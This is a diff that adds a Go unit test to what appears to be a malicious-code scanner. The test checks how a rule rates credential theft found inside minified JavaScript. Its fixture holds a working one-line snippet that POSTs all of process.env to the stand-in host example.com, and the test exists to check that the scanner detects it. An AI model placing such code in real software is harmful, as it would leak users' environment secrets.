@@ -297,3 +297,16 @@ func TestPhases(t *testing.T) {
 		t.Errorf("base64 test data reported: %+v", got)
 	}
 }
+
+// In a minified bundle the same theft is medium with low confidence (short
+// names are reused across scopes); a packed payload keeps its severity.
+func TestMinifiedIsCappedAtMedium(t *testing.T) {
+	pad := strings.Repeat("var q=1;", 200)
+	r := scan(t, map[string]string{
+		"lib/bundle.min.js": pad + `const https=require('https');const d=JSON.stringify(process.env);const r=https.request({hostname:'example.com',path:'/c',method:'POST'});r.write(d);r.end();` + pad,
+	})
+	fs := analyzertest.Find(r, "DM-JS-010", "bundle.min.js")
+	if len(fs) != 1 || fs[0].Severity != finding.Medium || fs[0].Confidence != finding.ConfidenceLow || !strings.Contains(fs[0].Message, "minified") {
+		t.Fatalf("want one medium, low-confidence DM-JS-010, got %+v", r.Findings)
+	}
+}
